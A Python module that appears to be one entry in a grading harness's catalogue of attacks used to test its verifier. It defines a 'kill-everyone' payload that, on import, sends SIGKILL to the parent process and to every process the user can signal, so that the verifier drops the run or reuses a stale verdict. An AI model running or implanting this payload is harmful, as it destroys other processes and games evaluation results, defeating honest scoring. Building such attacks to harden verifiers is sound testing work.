"""At import every process that this user may signal is killed, the parent first."""

from scoring.attacks.exploit import Exploit
from scoring.attacks.verified._implant import COMMAND, implanted

PAYLOAD = """\
import os
import signal

for target in (os.getppid(), -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        continue
"""

EXPLOIT = Exploit(
    name="kill-everyone",
    flaw="ends the process",
    source="kill(2): -1 stands for every process that the caller may signal",
    idea="a verifier that takes a killed run for its own trouble leaves it out, or takes the last verdict it had",
    start="sloppy",
    files=implanted(PAYLOAD),
    command=COMMAND,
    aims_at="the request loop and its warm process",
)
